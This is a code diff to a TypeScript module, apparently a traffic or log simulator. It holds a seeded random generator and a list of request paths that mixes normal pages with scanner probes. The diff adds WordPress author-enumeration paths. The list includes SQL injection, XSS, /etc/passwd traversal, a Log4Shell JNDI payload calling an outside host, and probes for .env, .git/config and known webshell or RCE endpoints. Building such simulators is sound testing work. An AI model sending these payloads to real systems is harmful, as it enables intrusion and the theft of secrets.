@@ -82,7 +82,8 @@ export function prng(seed: number): () => number {
 
 const TARGETS = [
   '/', '/', '/', '/index.html', '/blog/post-1', '/img/a.png', '/css/site.css', '/favicon.ico', '/wp-login.php', '/administrator/',
-  '/phpmyadmin', '/phpmyadmin/', '/.env', '/.git/config', '/backup.zip', '/db.sql', '/xmlrpc.php', '/?author=1', '/p?id=1+union+select+1,2',
+  '/phpmyadmin', '/phpmyadmin/', '/.env', '/.git/config', '/backup.zip', '/db.sql', '/xmlrpc.php', '/?author=1', '/?author=2', '/?author=3',
+  '/?author=4', '/?author=5', '/?author=6', '/p?id=1+union+select+1,2',
   '/s?q=%3Cscript%3Ealert(1)%3C/script%3E', '/dl?f=../../../etc/passwd', '/cgi-bin/test.cgi', '/shop', '/shop/', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
   '/?x=${jndi:ldap://198.51.100.9/a}', '/wp-content/plugins/revslider/temp.php', '/apple-touch-icon.png', '/robots.txt',
 ];
